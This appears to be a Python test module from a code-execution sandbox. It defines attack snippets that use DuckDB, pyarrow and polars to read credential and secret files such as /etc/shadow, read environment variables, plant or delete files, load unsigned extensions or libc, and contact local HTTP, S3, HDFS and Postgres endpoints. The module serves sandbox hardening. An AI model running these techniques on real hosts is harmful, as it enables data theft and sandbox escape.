"""Attacks through query engines: DuckDB, pyarrow and polars bring file systems, extensions and HTTP clients of their own."""

from cardinal_executor.sandbox.attack import Attack

ATTACKS = {
    "duckdb_reads": Attack(
        "the host's files, directories and environment, by DuckDB",
        """
import duckdb


def render(df, f, p):
    def ask(sql):
        return lambda: [row for row in duckdb.connect().sql(sql).fetchall() if row != (None,)]

    secret = p["secret_file"]
    return try_all([
        ("csv", ask(f"select * from read_csv('{secret}', header=false)")),
        ("text", ask(f"select content from read_text('{secret}')")),
        ("blob", ask("select content from read_blob('/etc/shadow')")),
        ("users", ask("select * from read_text('/etc/passwd') where content like '%root:%'")),
        ("name", ask(f"select * from '{secret}.csv'")),
        ("glob", ask(f"select * from glob('{p['drop']}/../*') where file like '%secret%'")),
        ("host", ask("select * from glob('/home/*')")),
        ("environment", ask("select getenv('" + p["secret_name"] + "') where getenv('" + p["secret_name"] + "') <> ''")),
        ("attach", ask(f"attach '{secret}' as other")),
        ("unlocked", ask(f"set enable_external_access=true; select content from read_text('{secret}')")),
        ("directories", ask(f"set allowed_directories=['/']; select content from read_text('{secret}')")),
    ])
""",
    ),
    "duckdb_writes": Attack(
        "to leave files on the host, by DuckDB",
        """
import duckdb


def render(df, f, p):
    drop = p["drop"]

    def do(sql):
        return lambda: (duckdb.connect().execute(sql), os.path.exists(drop) and bool(os.listdir(drop)))[1]

    return try_all([
        ("csv", do(f"copy (select 1) to '{drop}/planted.csv'")),
        ("parquet", do(f"copy (select 1) to '{drop}/planted.parquet' (format parquet)")),
        ("overwrite", lambda: duckdb.connect().execute(f"copy (select 1) to '{p['own_file']}'") and True),
        ("database", do(f"attach '{drop}/planted.db' as other; create table other.t as select 1")),
        ("export", do(f"create table t as select 1 a; export database '{drop}/planted'")),
        ("connect", lambda: duckdb.connect(drop + "/planted2.db").execute("create table t(a int)") and True),
        ("spill", do(f"set temp_directory='{drop}/spill'; set memory_limit='10MB'; set threads=1;"
                     "select count(distinct i) from range(2000000) t(i)")),
        ("profile", do(f"set enable_profiling='json'; set profiling_output='{drop}/profile.json'; select 1")),
        ("log", do(f"set log_query_path='{drop}/log'; select 1")),
        ("secret", do(f"set secret_directory='{drop}'; create persistent secret s (type http)")),
    ])
""",
    ),
    "duckdb_extensions": Attack(
        "the network or foreign code, by DuckDB's extensions",
        """
import duckdb


def render(df, f, p):
    site = "http://127.0.0.1:%d" % p["port"]

    def do(sql):
        return lambda: duckdb.connect(config={"allow_unsigned_extensions": "true"}).execute(sql) and True

    def own_library():
        import pyarrow

        source = pyarrow.get_library_dirs()[0]
        path = "/box/evil.duckdb_extension"
        with open(path, "wb") as file:
            file.write(open(os.path.join(source, "lib.so"), "rb").read(1 << 20))
        return do(f"load '{path}'")()

    return try_all([
        ("install", do("install httpfs")),
        ("load", do("load httpfs")),
        ("from there", do(f"install httpfs from '{site}'")),
        ("repository", do(f"set custom_extension_repository='{site}'; install spatial")),
        ("directory", do(f"set extension_directory='{p['drop']}'; install httpfs")),
        ("automatic", do(f"set autoinstall_known_extensions=true; select * from read_csv('{site}/x.csv')")),
        ("parquet", do(f"select * from read_parquet('{site}/x.parquet')")),
        ("s3", do("select * from read_parquet('s3://bucket/x.parquet')")),
        ("postgres", do("attach 'host=127.0.0.1' as pg (type postgres)")),
        ("own library", own_library),
        ("shared object", do("load '/usr/lib/libc.so.6'")),
    ])
""",
    ),
    "arrow_filesystems": Attack(
        "files and hosts by pyarrow's file systems, memory maps and clients",
        """
import pyarrow as pa
import pyarrow.csv, pyarrow.dataset, pyarrow.fs, pyarrow.parquet


def render(df, f, p):
    local = pa.fs.LocalFileSystem()
    secret, there = p["secret_file"], "127.0.0.1:%d" % p["port"]

    def s3():
        options = {"endpoint_override": there, "scheme": "http", "anonymous": True, "region": "x", "connect_timeout": 1,
                   "request_timeout": 1, "retry_strategy": pa.fs.AwsStandardS3RetryStrategy(max_attempts=1)}
        return pa.fs.S3FileSystem(**options).get_file_info(pa.fs.FileSelector("bucket"))

    def flight():
        import pyarrow.flight

        return list(pyarrow.flight.connect("grpc://" + there).list_flights(
            options=pyarrow.flight.FlightCallOptions(timeout=1))) or True

    return try_all([
        ("open", lambda: local.open_input_file(secret).read()),
        ("list", lambda: local.get_file_info(pa.fs.FileSelector("/home"))),
        ("write", lambda: local.open_output_stream(p["drop"] + "/planted").close() or True),
        ("delete", lambda: local.delete_file(p["own_file"]) or True),
        ("move", lambda: local.move(p["own_file"], p["drop"] + "/moved") or True),
        ("folder", lambda: local.create_dir(p["drop"] + "/folder") or True),
        ("copy", lambda: pa.fs.copy_files("file://" + secret, "file://" + p["drop"] + "/copy") or True),
        ("map", lambda: pa.memory_map(secret).read()),
        ("os file", lambda: pa.OSFile(secret).read()),
        ("csv", lambda: pa.csv.read_csv(secret).num_columns),
        ("dataset", lambda: pa.dataset.dataset(secret, format="csv").to_table().num_columns),
        ("parquet", lambda: pa.parquet.write_table(pa.table({"a": [1]}), p["drop"] + "/planted.parquet") or True),
        ("s3", s3),
        ("hdfs", lambda: pa.fs.HadoopFileSystem("127.0.0.1", p["port"]).get_file_info("/")),
        ("uri", lambda: pa.fs.FileSystem.from_uri("file://" + secret)[0].open_input_file(secret).read()),
        ("flight", flight),
    ])
""",
        seconds=20,
    ),
    "polars_files": Attack(
        "files and hosts by polars' scans and sinks",
        """
import polars as pl


def render(df, f, p):
    site, drop, secret = "http://127.0.0.1:%d/x" % p["port"], p["drop"], p["secret_file"]
    frame = pl.DataFrame({"a": [1, 2]})

    def s3():
        options = {"aws_endpoint_url": site, "aws_access_key_id": "x", "aws_secret_access_key": "x", "aws_region": "x"}
        return pl.scan_parquet("s3://bucket/x.parquet", storage_options={**options, "max_retries": "0"}).collect().height

    return try_all([
        ("csv", lambda: pl.read_csv(secret, has_header=False).height),
        ("scan", lambda: pl.scan_csv(secret, has_header=False).collect().height),
        ("lines", lambda: pl.scan_csv("/etc/shadow", has_header=False).collect().height),
        ("glob", lambda: pl.scan_csv(drop + "/../secret*", has_header=False).collect().height),
        ("file url", lambda: pl.scan_csv("file://" + secret, has_header=False).collect().height),
        ("http", lambda: pl.scan_csv(site + ".csv").collect().height),
        ("parquet", lambda: pl.read_parquet(site + ".parquet").height),
        ("s3", s3),
        ("sql", lambda: pl.SQLContext().execute(f"select * from read_csv('{secret}')", eager=True).height),
        ("database", lambda: pl.read_database_uri("select 1", "sqlite://" + drop + "/planted.db").height),
        ("write", lambda: frame.write_csv(drop + "/planted.csv") or True),
        ("sink", lambda: frame.lazy().sink_parquet(drop + "/planted.parquet") is None and os.listdir(drop)),
        ("sink csv", lambda: frame.lazy().sink_csv(p["own_file"]) is None and "SECRET" not in open(p["own_file"]).read()),
        ("folders", lambda: frame.lazy().sink_csv(drop + "/a/b.csv", mkdir=True) is None and os.listdir(drop)),
    ])
""",
        seconds=20,
    ),
}
